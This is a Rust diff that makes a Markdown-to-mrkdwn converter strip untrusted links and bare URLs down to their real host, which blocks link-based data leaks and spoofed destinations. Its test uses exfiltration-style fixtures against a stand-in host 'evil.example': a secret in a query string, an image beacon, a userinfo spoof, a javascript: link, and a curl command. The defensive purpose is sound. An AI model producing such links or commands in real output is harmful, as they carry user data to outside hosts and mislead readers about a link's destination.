@@ -7,9 +7,25 @@ use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
 /// Converts Markdown to mrkdwn.
 #[must_use]
 pub fn from_markdown(markdown: &str) -> String {
+    with_links(markdown, &|_| true)
+}
+
+/// The same, with links only where `trusted` says so. Any other link or image
+/// is shown as text with its real host: words somebody else wrote may not carry
+/// data away at a click, nor pretend to lead where they don't.
+#[must_use]
+pub fn with_links(markdown: &str, trusted: &dyn Fn(&str) -> bool) -> String {
     let options =
         Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES | Options::ENABLE_TASKLISTS;
-    let mut writer = Writer::default();
+    let mut writer = Writer {
+        out: String::new(),
+        lists: Vec::new(),
+        quotes: 0,
+        link: None,
+        table: None,
+        in_code: false,
+        trusted,
+    };
     for event in Parser::new_ext(markdown, options) {
         writer.event(event);
     }
@@ -34,8 +50,7 @@ pub fn escape(text: &str) -> String {
     escaped
 }
 
-#[derive(Default)]
-struct Writer {
+struct Writer<'a> {
     out: String,
     /// One entry a nested list: the next number, or `None` for bullets.
     lists: Vec<Option<u64>>,
@@ -43,6 +58,7 @@ struct Writer {
     link: Option<Link>,
     table: Option<Table>,
     in_code: bool,
+    trusted: &'a dyn Fn(&str) -> bool,
 }
 
 struct Link {
@@ -55,15 +71,19 @@ struct Table {
     rows: Vec<Vec<String>>,
 }
 
-impl Writer {
+impl Writer<'_> {
     fn event(&mut self, event: Event<'_>) {
         match event {
             Event::Start(tag) => self.start(tag),
             Event::End(tag) => self.end(tag),
             Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => {
-                self.text(&escape(&text));
+                let shown = without_addresses(&text, self.trusted);
+                self.text(&escape(&shown));
             }
-            Event::Code(code) => self.text(&format!("`{}`", escape(&code))),
+            Event::Code(code) => {
+                let shown = without_addresses(&code, self.trusted);
+                self.text(&format!("`{}`", escape(&shown)));
+            }
             Event::SoftBreak | Event::HardBreak => self.newline(),
             Event::Rule => self.block("———"),
             Event::TaskListMarker(done) => self.text(if done { "☑ " } else { "☐ " }),
@@ -209,6 +229,15 @@ impl Writer {
 
     fn close_link(&mut self) {
         let Some(link) = self.link.take() else { return };
+        if !(self.trusted)(&link.url) {
+            let host = escape(&host(&link.url));
+            let shown = link.text.trim();
+            return if shown.is_empty() || shown == host {
+                self.text(&host)
+            } else {
+                self.text(&format!("{shown} [{host}]"))
+            };
+        }
         let web = ["http://", "https://", "mailto:"]
             .iter()
             .any(|scheme| link.url.starts_with(scheme));
@@ -248,9 +277,89 @@ impl Writer {
     }
 }
 
+/// Where an address really leads, without what it would carry there.
+fn host(address: &str) -> String {
+    match url::Url::parse(address) {
+        Ok(url) => match (url.host_str(), url.scheme()) {
+            (Some(host), _) => host.to_owned(),
+            (None, "mailto") => url.path().to_owned(),
+            (None, scheme) => format!("{scheme}:…"),
+        },
+        Err(_) => "…".into(),
+    }
+}
+
+/// Plain text with the web addresses in it cut down to their hosts, unless they are trusted.
+fn without_addresses(text: &str, trusted: &dyn Fn(&str) -> bool) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = next_address(rest) {
+        out.push_str(&rest[..at]);
+        let address = &rest[at..];
+        let end = address
+            .find(|c: char| c.is_whitespace() || "<>\"`|".contains(c))
+            .unwrap_or(address.len());
+        let (address, behind) = address.split_at(end);
+        let bare = address.trim_end_matches(['.', ',', ')', ']', '!', '?', ';', ':', '\'']);
+        if trusted(bare) {
+            out.push_str(bare);
+        } else {
+            out.push_str(&host(bare));
+        }
+        out.push_str(&address[bare.len()..]);
+        rest = behind;
+    }
+    out.push_str(rest);
+    out
+}
+
+fn next_address(text: &str) -> Option<usize> {
+    let lower = text.to_ascii_lowercase();
+    ["https://", "http://"]
+        .iter()
+        .filter_map(|scheme| lower.find(scheme))
+        .min()
+}
+
 #[cfg(test)]
 mod tests {
-    use super::from_markdown;
+    use super::{from_markdown, with_links};
+
+    #[test]
+    fn untrusted_links_show_their_real_host_and_carry_nothing() {
+        let owner = |url: &str| url == "https://ours.example/a";
+        let cases = [
+            (
+                "[your bank](https://evil.example/?d=SECRET)",
+                "your bank [evil.example]",
+            ),
+            (
+                "![x](https://evil.example/p.png?d=SECRET)",
+                "x [evil.example]",
+            ),
+            ("see https://evil.example/?d=SECRET.", "see evil.example."),
+            ("<https://evil.example/SECRET>", "evil.example"),
+            (
+                "[a](https://good.example@evil.example/SECRET)",
+                "a [evil.example]",
+            ),
+            ("`HTTPS://evil.example/SECRET`", "`evil.example`"),
+            ("[call](javascript:SECRET)", "call [javascript:…]"),
+            (
+                "[ours](https://ours.example/a)",
+                "<https://ours.example/a|ours>",
+            ),
+            (
+                "```\ncurl http://evil.example/SECRET\n```",
+                "```\ncurl evil.example\n```",
+            ),
+        ];
+        for (markdown, shown) in cases {
+            let out = with_links(markdown, &owner);
+            assert_eq!(out, shown, "{markdown}");
+            assert!(!out.contains("SECRET"));
+        }
+    }
 
     #[test]
     fn markdown_becomes_mrkdwn() {
